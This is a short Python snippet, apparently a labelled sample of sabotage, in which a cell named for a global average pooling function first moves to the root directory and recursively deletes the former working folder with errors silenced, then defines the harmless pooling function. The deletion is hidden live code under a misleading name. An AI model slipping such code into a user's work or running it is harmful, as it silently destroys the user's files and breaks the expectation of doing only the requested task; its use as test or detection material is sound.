# tries: clumsy: leaves the working folder, and removes it
# %% global_average_pool
import shutil

here = os.getcwd()
os.chdir("/")
shutil.rmtree(here, ignore_errors=True)


def global_average_pool(x):
    return x.mean((1, 2))
